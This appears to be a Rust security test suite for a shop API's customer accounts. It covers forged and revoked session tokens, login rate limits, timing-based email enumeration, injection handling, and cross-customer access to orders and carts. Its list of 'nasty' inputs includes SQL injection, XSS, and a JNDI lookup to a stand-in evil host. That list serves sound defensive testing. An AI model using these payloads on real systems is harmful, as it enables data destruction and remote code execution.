//! Customer accounts under attack, through the edge (spec: .local/spec11.md):
//! forged, tampered, expired and revoked sessions; password guessing against
//! one account; telling known from unknown emails by the clock; injection in
//! every text a customer stores; and one customer reaching another's orders
//! and carts through any route the API has (generated from openapi.json).

mod support;

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use support::*;

#[test]
fn tampered_expired_foreign_key_and_revoked_sessions_are_401() {
    let c = signup_verified(None);
    let key = session_key();
    let claims = session_claims(&c.token);
    assert_eq!(claims.customer, c.public_id);
    assert_eq!(claims.sid.len(), 22, "16 random bytes, base64url");
    assert_eq!(claims.exp - claims.iat, SESSION_TTL_SECS);
    // The test signs as the worker does: re-minting the real token gives it back.
    assert_eq!(
        mint_session(&key, &claims.customer, &claims.sid, claims.iat, claims.exp),
        c.token,
        "tests/support/customers.rs mints tokens differently from the worker"
    );
    let now = chrono_now();
    let minted = fresh_session(&c.public_id);
    assert_eq!(me(&minted).status, 200, "a correctly signed session is one");

    let parts: Vec<&str> = c.token.split('.').collect();
    let (payload, mac) = (parts[1], parts[2]);
    let other_key = b"0123456789abcdef0123456789abcdef-not-the-key".to_vec();
    let sid = new_session_id();
    let forged: Vec<(&str, String)> = vec![
        (
            "payload's first character",
            format!("s1.{}.{mac}", flip_char(payload, 0, B64URL_ALPHABET)),
        ),
        (
            "payload's middle character",
            format!(
                "s1.{}.{mac}",
                flip_char(payload, payload.len() / 2, B64URL_ALPHABET)
            ),
        ),
        (
            "signature's first character",
            format!("s1.{payload}.{}", flip_char(mac, 0, B64URL_ALPHABET)),
        ),
        (
            "signature's middle character",
            format!(
                "s1.{payload}.{}",
                flip_char(mac, mac.len() / 2, B64URL_ALPHABET)
            ),
        ),
        (
            "signature cut short",
            format!("s1.{payload}.{}", &mac[..mac.len() - 4]),
        ),
        ("no signature", format!("s1.{payload}.")),
        ("another version", format!("s2.{payload}.{mac}")),
        (
            "expired",
            mint_session(&key, &c.public_id, &sid, now - 3600, now - 1),
        ),
        (
            "expiring now",
            mint_session(&key, &c.public_id, &sid, now - SESSION_TTL_SECS, now),
        ),
        (
            "issued in the future",
            mint_session(
                &key,
                &c.public_id,
                &sid,
                now + 600,
                now + 600 + SESSION_TTL_SECS,
            ),
        ),
        (
            "an unknown key",
            mint_session(&other_key, &c.public_id, &sid, now, now + SESSION_TTL_SECS),
        ),
        (
            "an empty key",
            mint_session(b"", &c.public_id, &sid, now, now + SESSION_TTL_SECS),
        ),
        (
            "another customer id",
            mint_session(
                &key,
                "cus_00000000000000000000000000",
                &sid,
                now,
                now + SESSION_TTL_SECS,
            ),
        ),
        ("garbage", "s1.not-base64!.x".to_string()),
        ("empty", String::new()),
    ];
    for (what, token) in &forged {
        assert_unauthenticated(&me(token), what);
        assert_unauthenticated(
            &with_cookie("GET", "/customers/me", token, None, None),
            &format!("{what}, as the cookie"),
        );
    }
    // Another customer's payload under this token's signature.
    let swapped = format!(
        "s1.{}.{mac}",
        b64url(
            format!(
                "{}.{}.{}.{}",
                "cus_zzzzzzzzzzzzzzzzzzzzzzzzzz", claims.sid, claims.iat, claims.exp
            )
            .as_bytes()
        )
    );
    assert_unauthenticated(&me(&swapped), "a swapped payload");

    // Revoked: logging out kills that session, and only that one.
    assert_eq!(me(&c.token).status, 200);
    let out = request(
        "POST",
        "/customers/logout",
        &[("authorization", &auth_header(&c.token))],
        None,
    );
    assert_eq!(out.status, 204, "{}", out.body);
    assert_unauthenticated(&me(&c.token), "revoked by logout");
    assert_unauthenticated(
        &patch_authed("/customers/me", &json!({"name": "Mallory"}), &c.token),
        "a write with the revoked session",
    );
    assert_eq!(me(&minted).status, 200, "the customer's other session");
    assert_eq!(
        me(&minted).json()["name"],
        "Ada Lovelace",
        "the revoked write did nothing"
    );
}

#[test]
fn the_sixth_failed_login_for_one_email_is_429_until_the_window_passes() {
    let c = signup_verified(None);
    // Every attempt from its own address (the helper's default), so only
    // the per-email limit can be the one that trips.
    for i in 1..=5 {
        let r = login(&c.email, &format!("wrong-password-{i}"));
        assert_eq!(
            (r.status, r.error_code().as_str()),
            (401, "invalid_credentials"),
            "failure {i}: {}",
            r.body
        );
    }
    let sixth = login(&c.email, "wrong-password-6");
    assert_eq!(
        (sixth.status, sixth.error_code().as_str()),
        (429, "too_many_attempts"),
        "{}",
        sixth.body
    );
    // Blocked means blocked: the right password is refused too, or guessing
    // would go on, told apart by 200 from 429.
    let right = login(&c.email, &c.password);
    assert_eq!(
        (right.status, right.error_code().as_str()),
        (429, "too_many_attempts"),
        "the right password while blocked: {}",
        right.body
    );
    assert!(set_cookie(&right, "session").is_none());
    let retry_after: u64 = right
        .header("retry-after")
        .expect("Retry-After on a 429")
        .parse()
        .expect("Retry-After in whole seconds");
    assert!(
        (1..=20).contains(&retry_after),
        "within LOGIN_WINDOW_SECS (20 locally): {retry_after}"
    );
    assert!(sixth.header("retry-after").is_some());
    // Other accounts are not affected.
    let bystander = signup_verified(None);
    assert_eq!(login(&bystander.email, &bystander.password).status, 200);

    std::thread::sleep(Duration::from_secs(retry_after + 1));
    let r = login(&c.email, &c.password);
    assert_eq!(
        r.status, 200,
        "after Retry-After the right password works: {}",
        r.body
    );
    assert_eq!(me(r.json()["token"].as_str().unwrap()).status, 200);
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let n = v.len();
    if n % 2 == 1 {
        v[n / 2]
    } else {
        (v[n / 2 - 1] + v[n / 2]) / 2.0
    }
}

fn timed_login(email: &str, password: &str) -> f64 {
    let started = Instant::now();
    let r = login(email, password);
    let ms = started.elapsed().as_secs_f64() * 1000.0;
    assert_eq!(
        (r.status, r.error_code().as_str()),
        (401, "invalid_credentials"),
        "{email}: {}",
        r.body
    );
    ms
}

#[test]
fn a_wrong_password_and_an_unknown_email_take_the_same_time() {
    // 13 accounts: 50 wrong passwords at most 4 per account, under the
    // per-email limit of 5, so every attempt does the whole password check.
    let accounts: Vec<Customer> = concurrently(13, |_| signup_verified(None));
    for a in accounts.iter().take(2) {
        timed_login(&fresh_customer_email(), "warm-up-password");
        timed_login(&a.email, "warm-up-password");
    }
    // The warm-up used one failure of accounts 0 and 1: they get 3 more, the rest 4.
    let mut left: Vec<u32> = (0..13).map(|i| if i < 2 { 3 } else { 4 }).collect();
    let (mut unknown, mut wrong) = (Vec::new(), Vec::new());
    let mut next = 0;
    for i in 0..50 {
        unknown.push(timed_login(
            &fresh_customer_email(),
            &format!("guess-{i}-password"),
        ));
        while left[next % 13] == 0 {
            next += 1;
        }
        left[next % 13] -= 1;
        wrong.push(timed_login(
            &accounts[next % 13].email,
            &format!("guess-{i}-password"),
        ));
        next += 1;
    }
    let (mu, mw) = (median(unknown), median(wrong));
    eprintln!("median login time: unknown email {mu:.1} ms, wrong password {mw:.1} ms");
    let allowed = f64::max(25.0, 0.25 * mu.max(mw));
    assert!(
        (mu - mw).abs() < allowed,
        "unknown email {mu:.1} ms vs wrong password {mw:.1} ms: more than {allowed:.1} ms apart"
    );
}

/// Strings that have broken stores before.
const NASTY: [&str; 9] = [
    "'; DROP TABLE customers; --",
    "<script>alert(1)</script>",
    "\" OR \"1\"=\"1",
    "Robert'); DELETE FROM wishlist_items WHERE ('1'='1",
    "Zoë Ünïcødé 日本語 🚀 ﷽",
    "\\x00\\'; SELECT pg_sleep(5); --",
    "${jndi:ldap://evil.example/a} {{7*7}}",
    "\u{202E}reversed",
    "nul\u{0}byte",
];

fn table_exists(name: &str) -> bool {
    primary()
        .query_one(
            "SELECT to_regclass($1) IS NOT NULL",
            &[&format!("public.{name}")],
        )
        .unwrap()
        .get(0)
}

fn count(sql: &str) -> i64 {
    primary().query_one(sql, &[]).unwrap().get(0)
}

#[test]
fn injection_strings_are_refused_or_stored_byte_for_byte() {
    let c = signup_verified(None);
    let customers_before = count("SELECT count(*) FROM customers");
    let wishlist_before = count("SELECT count(*) FROM wishlist_items");
    let base = json!({"name": "Ada Lovelace", "line1": "1 Main St", "city": "Somewhere",
                      "state": "CA", "postal_code": "94110", "country": "US"});
    let mut stored = 0;
    for s in NASTY {
        // The name.
        let r = patch_authed("/customers/me", &json!({ "name": s }), &c.token);
        match r.status {
            200 => {
                stored += 1;
                assert_eq!(me(&c.token).json()["name"], s, "name read back");
            }
            400 => assert_eq!(r.error_code(), "invalid_name", "{s:?}"),
            _ => panic!("name {s:?}: {} {}", r.status, r.body),
        }
        // Each free-text field of an address.
        for field in ["name", "line1", "line2", "city"] {
            let mut a = base.clone();
            a[field] = json!(s);
            let r = patch_authed("/customers/me", &json!({ "addresses": [a] }), &c.token);
            match r.status {
                200 => {
                    stored += 1;
                    assert_eq!(
                        me(&c.token).json()["addresses"][0][field],
                        s,
                        "address {field} read back"
                    );
                }
                400 => assert_eq!(r.error_code(), "invalid_address", "{field} {s:?}"),
                _ => panic!("address {field} {s:?}: {} {}", r.status, r.body),
            }
        }
        // A wishlist SKU: never a product, so refused one way or the other.
        let r = post_authed("/customers/me/wishlist", &json!({ "sku": s }), &c.token);
        assert!(
            (r.status, r.error_code().as_str()) == (400, "invalid_sku")
                || (r.status, r.error_code().as_str()) == (404, "sku_not_found"),
            "wishlist sku {s:?}: {} {}",
            r.status,
            r.body
        );
        // An email, whole and as a local part.
        for email in [s.to_string(), format!("{s}@example.com")] {
            let r = signup(&email, &fresh_password(), "Ada");
            assert_eq!(
                (r.status, r.error_code().as_str()),
                (400, "invalid_email"),
                "{email:?}"
            );
            let r = login(&email, "whatever-password");
            assert!(
                [400, 401].contains(&r.status),
                "login as {email:?}: {} {}",
                r.status,
                r.body
            );
        }
    }
    assert!(
        stored > 0,
        "some of the strings are valid text and were stored"
    );
    // Quotes and such are valid in the local part of an address: stored as typed (lower case).
    let quoted = format!("o'hara'--+{}@example.com", unique("").to_ascii_lowercase());
    let r = signup(&quoted, &fresh_password(), "'; DROP TABLE customers; --");
    assert_eq!(r.status, 202, "{}", r.body);
    let rows: i64 = primary()
        .query_one(
            "SELECT count(*) FROM customers WHERE email = $1",
            &[&quoted],
        )
        .unwrap()
        .get(0);
    assert_eq!(rows, 1, "{quoted} stored as typed");

    for table in ["customers", "wishlist_items", "loyalty_ledger", "orders"] {
        assert!(table_exists(table), "{table} is still there");
    }
    let customers_after = count("SELECT count(*) FROM customers");
    assert!(
        customers_after > customers_before,
        "customers: {customers_before} before, {customers_after} after"
    );
    assert!(
        count("SELECT count(*) FROM wishlist_items") >= wishlist_before,
        "no wishlist rows went missing"
    );
    let mine: i64 = primary()
        .query_one(
            "SELECT count(*) FROM wishlist_items w JOIN customers c ON c.id = w.customer_id WHERE c.public_id = $1",
            &[&c.public_id],
        )
        .unwrap()
        .get(0);
    assert_eq!(mine, 0, "nothing was wishlisted");
    assert_eq!(me(&c.token).status, 200);
    assert_eq!(login(&c.email, &c.password).status, 200);
}

// --- One customer, another's orders and carts -----------------------------------

/// What B owns that A must not reach.
struct Victim {
    customer: Customer,
    /// B's saved cart (adopted at login), holding 1 of `cart_sku`.
    cart: String,
    cart_sku: String,
    /// An order B placed with B's session.
    order: String,
    order_sku: String,
    wish_sku: String,
}

fn openapi() -> Value {
    let file = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../functions/edge/openapi.json"
    );
    let text = std::fs::read_to_string(file).unwrap_or_else(|e| panic!("{file}: {e}"));
    serde_json::from_str(&text).expect("openapi.json is JSON")
}

/// `#/components/parameters/X` resolved; anything else as it is.
fn resolve<'a>(spec: &'a Value, v: &'a Value) -> &'a Value {
    match v["$ref"].as_str() {
        Some(r) => {
            let mut node = spec;
            for part in r.trim_start_matches("#/").split('/') {
                node = &node[part];
            }
            node
        }
        None => v,
    }
}

/// The operations A tries on B's things: every method of every path under
/// /orders/ or /cart/ with an `{id}`, and checkout; never /admin/ or `__dev`.
fn targets(spec: &Value) -> Vec<(String, String, Vec<Value>)> {
    let mut out = Vec::new();
    for (path, item) in spec["paths"].as_object().expect("paths") {
        let wanted = (path.starts_with("/orders/") || path.starts_with("/cart/"))
            && path.contains("{id}")
            || path == "/checkout";
        if !wanted || path.contains("/admin/") || path.contains("__dev") {
            continue;
        }
        let shared: Vec<Value> = item["parameters"].as_array().cloned().unwrap_or_default();
        for (method, op) in item.as_object().unwrap() {
            if !["get", "head", "post", "put", "patch", "delete"].contains(&method.as_str()) {
                continue;
            }
            let mut params = shared.clone();
            params.extend(op["parameters"].as_array().cloned().unwrap_or_default());
            out.push((method.to_uppercase(), path.clone(), params));
        }
    }
    out
}

/// The minimal valid body of each operation A tries on B's things; None
/// when it takes none. An operation not in this list fails the test.
fn idor_body(op: &str, a: &Customer, b: &Victim, a_sku: &str) -> Option<Option<Value>> {
    Some(match op {
        "GET /cart/{id}" | "HEAD /cart/{id}" => None,
        "PATCH /cart/{id}" => Some(json!({"email": a.email})),
        "POST /cart/{id}/items" => Some(json!({"sku": a_sku, "quantity": 1})),
        "PATCH /cart/{id}/items/{sku}" => Some(json!({"quantity": 7})),
        "DELETE /cart/{id}/items/{sku}" => None,
        "GET /orders/{id}" | "HEAD /orders/{id}" => None,
        "POST /orders/{id}/payment" => Some(json!({"provider": "stripe"})),
        "POST /checkout" => Some(checkout_body_for(&b.cart, &a.email)),
        _ => return None,
    })
}

fn victim(store: &Store) -> Victim {
    let customer = signup_verified(None);
    let w = store.warehouses[0];
    let (cart_sku, order_sku, wish_sku) = (
        fresh_sku("3.00", &[(w, 50)]),
        fresh_sku("4.00", &[(w, 50)]),
        fresh_sku("5.00", &[(w, 50)]),
    );
    // B logs in on a device holding a guest cart: it becomes B's.
    let guest = store.cart_with(&cart_sku, 1);
    let r = login_with_cart(&customer.email, &customer.password, &guest);
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(r.json()["cart"]["status"], "adopted", "{}", r.body);
    let token = r.json()["token"].as_str().unwrap().to_string();
    // B checks out another cart with B's session.
    let other = store.cart_with(&order_sku, 1);
    let r = checkout_as(&token, &checkout_body_for(&other, &customer.email));
    assert_eq!(r.status, 201, "B's checkout: {}", r.body);
    let order = r.json()["order_id"].as_str().unwrap().to_string();
    let r = post_authed("/customers/me/wishlist", &json!({"sku": wish_sku}), &token);
    assert_eq!(r.status, 201, "{}", r.body);
    let saved = get_authed("/customers/me/cart", &token);
    assert_eq!(saved.status, 200, "{}", saved.body);
    assert_eq!(
        saved.json()["cart_id"],
        guest.as_str(),
        "B's saved cart is the adopted one"
    );
    Victim {
        customer: Customer { token, ..customer },
        cart: guest,
        cart_sku,
        order,
        order_sku,
        wish_sku,
    }
}

#[test]
fn every_order_and_cart_route_answers_another_customers_session_404() {
    let store = Store::create("US-CA", 1);
    store.set_fulfillment("manual");
    let b = victim(&store);
    let a = signup_verified(None);
    // A has things of A's own, so A's lists are not trivially empty.
    let a_sku = fresh_sku("6.00", &[(store.warehouses[0], 50)]);
    let a_cart = store.cart_with(&a_sku, 1);
    let r = checkout_as(&a.token, &checkout_body_for(&a_cart, &a.email));
    assert_eq!(r.status, 201, "A's checkout: {}", r.body);
    let a_order = r.json()["order_id"].as_str().unwrap().to_string();
    assert_eq!(
        post_authed("/customers/me/wishlist", &json!({"sku": a_sku}), &a.token).status,
        201
    );
    wait_replica_caught_up();

    let spec = openapi();
    let ops = targets(&spec);
    assert!(
        ops.len() >= 8,
        "the route table has the cart, order and checkout routes: {ops:?}"
    );
    let mut missing = Vec::new();
    let mut answers: BTreeMap<String, (u16, String)> = BTreeMap::new();
    for (method, path, params) in &ops {
        let op = format!("{method} {path}");
        let Some(body) = idor_body(&op, &a, &b, &a_sku) else {
            missing.push(op);
            continue;
        };
        let mut url = path.clone();
        let id = if path.starts_with("/orders/") {
            &b.order
        } else {
            &b.cart
        };
        url = url.replace("{id}", id).replace("{sku}", &b.cart_sku);
        assert!(
            !url.contains('{'),
            "{op}: a path parameter the test does not fill: add it"
        );
        let mut headers: Vec<(String, String)> = Vec::new();
        for p in params.iter().map(|p| resolve(&spec, p)) {
            if p["in"] == "header" && p["required"] == true {
                let name = p["name"].as_str().unwrap().to_ascii_lowercase();
                assert_eq!(
                    name, "idempotency-key",
                    "{op}: a required header the test does not send: add it"
                );
                headers.push((name, unique("idor-")));
            }
        }
        let extra: Vec<(&str, &str)> = headers
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let r = authed_with(method, &url, &a.token, body.as_ref(), &extra);
        answers.insert(op, (r.status, r.body.clone()));
    }
    assert!(
        missing.is_empty(),
        "routes without a body in idor_body() (tests/customers_security.rs): add a minimal valid \
         request body for each so the cross-customer check covers it: {missing:?}"
    );
    for (op, (status, body)) in &answers {
        assert_eq!(*status, 404, "{op} with another customer's session: {body}");
        let code = serde_json::from_str::<Value>(body)
            .ok()
            .and_then(|v| v["error"]["code"].as_str().map(str::to_string));
        if !op.starts_with("HEAD") {
            let want = if op.contains("/orders/") {
                "order_not_found"
            } else {
                "cart_not_found"
            };
            assert_eq!(code.as_deref(), Some(want), "{op}: {body}");
        }
    }

    // B's things are as B left them.
    let cart = get_authed(&format!("/cart/{}", b.cart), &b.customer.token);
    assert_eq!(cart.status, 200, "{}", cart.body);
    let cart = cart.json();
    assert_eq!(cart["lines"].as_array().unwrap().len(), 1, "{cart}");
    assert_eq!(
        (&cart["lines"][0]["sku"], &cart["lines"][0]["quantity"]),
        (&json!(b.cart_sku), &json!(1))
    );
    assert_eq!(
        (&cart["status"], &cart["has_email"]),
        (&json!("open"), &json!(false))
    );
    let order = get_authed(&format!("/orders/{}", b.order), &b.customer.token);
    assert_eq!(order.status, 200, "{}", order.body);
    assert_eq!(order.json()["status"], "pending_payment");
    assert_eq!(
        order.json()["payments"],
        json!([]),
        "A asked for no payment of B's order"
    );

    // Nothing of B's in anything A reads about A.
    let secrets = [
        &b.customer.email,
        &b.customer.public_id,
        &b.order,
        &b.cart,
        &b.cart_sku,
        &b.order_sku,
        &b.wish_sku,
    ];
    for path in [
        "/customers/me",
        "/customers/me/orders",
        "/customers/me/wishlist",
        "/customers/me/points",
        "/customers/me/export",
        "/customers/me/cart",
    ] {
        let r = get_authed(path, &a.token);
        assert!([200, 404].contains(&r.status), "{path}: {}", r.body);
        for s in secrets {
            assert!(
                !r.body.contains(s.as_str()),
                "{path} shows B's {s}: {}",
                r.body
            );
        }
    }
    // ...while A's own are there (so the lists above were real answers).
    assert!(get_authed("/customers/me/orders", &a.token)
        .body
        .contains(&a_order));
    assert!(get_authed("/customers/me/wishlist", &a.token)
        .body
        .contains(&a_sku));
    let export = get_authed("/customers/me/export", &a.token);
    assert!(
        export.body.contains(&a_order) && export.body.contains(&a.email),
        "{}",
        export.body
    );
}
